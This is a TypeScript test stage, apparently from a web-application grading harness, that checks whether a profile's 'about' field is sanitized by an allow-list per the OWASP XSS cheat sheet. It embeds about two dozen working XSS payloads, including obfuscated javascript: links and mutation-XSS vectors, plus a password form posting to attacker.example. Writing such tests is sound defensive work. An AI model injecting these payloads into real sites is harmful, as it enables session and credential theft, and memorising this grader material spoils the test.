import { type HtmlElement, stage } from '@backroad/check'
import { runsNothing } from './guests/attacks.ts'
import { Guest, elementById, placeOf } from './guests/guest.ts'

const ALLOWED = new Set(['b', 'i', 'em', 'strong', 'p', 'ul', 'ol', 'li', 'a', 'br'])
const LINK = 'https://example.org/?a=1&b=2'

export default stage({
  spec: 'OWASP Cross Site Scripting Prevention Cheat Sheet, HTML sanitization',
  timeout: 60_000,
  needs: ['links-only-to-places'],
  async check(context) {
    const { expect, browser } = context
    const guest = await new Guest(context).logIn()
    await guest.save({
      about: `<p>I <b>like</b> <i>pears</i> &amp; <em>plums</em> <3 "it's"</p><ul><li><strong>one</strong></li></ul><p><a href="https://example.org/?a=1&amp;b=2">there</a></p>`,
    })
    const page = await guest.page(guest.profilePath)
    const about = elementById(expect, page, 'about')
    const shown = placeOf(page.reply, about)
    expect({ ...shown, value: about.text.replace(/\s+/g, '') }, 'text of the element about, without spaces').is(
      `Ilikepears&plums<3"it's"onethere`,
      { likely: 'The text between allowed tags stays as it was; a reference such as "&amp;" stays one.' },
    )
    const within = descendants(about)
    expect({ ...shown, value: within.map(({ name }) => name) }, 'elements within the element about').is([
      'p',
      'b',
      'i',
      'em',
      'ul',
      'li',
      'strong',
      'p',
      'a',
    ])
    expect({ ...shown, value: within.find(({ name }) => name === 'a')?.attributes.get('href') }, 'href of the link').is(
      LINK,
    )

    await guest.save({
      about:
        '<form action="https://attacker.example/"><input name="password"></form><style>body{display:none}</style><h1 id="name">x</h1><p style="position:fixed" class="author" id="person">y</p></b>&#9999999;&#x110000;&#0;',
    })
    const strange = await guest.page(guest.profilePath)
    const left = descendants(elementById(expect, strange, 'about'))
    const place = placeOf(strange.reply, strange.html.byId('about'))
    expect(
      { ...place, value: left.map(({ name }) => name).filter((name) => !ALLOWED.has(name)) },
      'elements that are not on the list',
    ).is([], {
      likely:
        'Begin with what is allowed, and let nothing else through: a list of what is forbidden is never complete.',
    })
    const attributes = left.flatMap((element) =>
      [...element.attributes.keys()].filter((name) => !(element.name === 'a' && /^(href|rel|target)$/.test(name))),
    )
    expect({ ...place, value: attributes }, 'attributes that are not on the list').is([], {
      likely:
        'Of attributes only the href of a link stays: style covers the page, id and class take the place of others.',
    })

    const attack = (n: number) => browser.payload(n)
    const together: Record<number, string> = {
      1: `<script>${attack(1)}</script>`,
      2: `<img src=x onerror=${attack(2)}>`,
      3: `<a href="javascript:${attack(3)}">x</a>`,
      4: `<a href="&#106;ava&Tab;script&colon;${attack(4)}">x</a>`,
      5: `<b onmouseover="${attack(5)}">x</b>`,
      6: `<svg><a xlink:href="javascript:${attack(6)}"><text>x</text></a></svg>`,
      7: `<iframe srcdoc="<script>${attack(7)}</script>"></iframe>`,
      8: `<a href="https://example.org/" onclick="${attack(8)}">x</a>`,
      9: `<details open ontoggle=${attack(9)}>x</details>`,
      10: `<b/onmouseover=${attack(10)}>x</b>`,
      11: `<IMG SRC=x OnErRoR=${attack(11)}>`,
      12: `<a href='javascript:${attack(12)}'>x</a>`,
      13: `<a href="https://example.org/"onclick=${attack(13)}>x</a>`,
    }
    const alone: Record<number, string> = {
      20: `<scr<script>ipt>${attack(20)}</scr</script>ipt>`,
      21: `<p title="</p><img src=x onerror=${attack(21)}>">x</p>`,
      22: `<noscript><p title="</noscript><img src=x onerror=${attack(22)}>"></noscript>`,
      23: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${attack(23)}&gt;">`,
      24: `&lt;img src=x onerror=${attack(24)}&gt;`,
      25: `<img src=x onerror=${attack(25)}`,
      26: `<b <script>${attack(26)}</script>x</b>`,
    }
    const payloads = { ...together, ...alone }
    for (const html of [Object.values(together).join('\n'), ...Object.values(alone)]) {
      await guest.save({ about: html })
      await runsNothing(context, guest, guest.profilePath, payloads, {
        likely:
          'Build the result anew from elements and attributes on a list, and never by taking bad parts out of what came.',
      })
    }
  },
})

function descendants(element: HtmlElement): HtmlElement[] {
  return element.children.flatMap((child) => [child, ...descendants(child)])
}
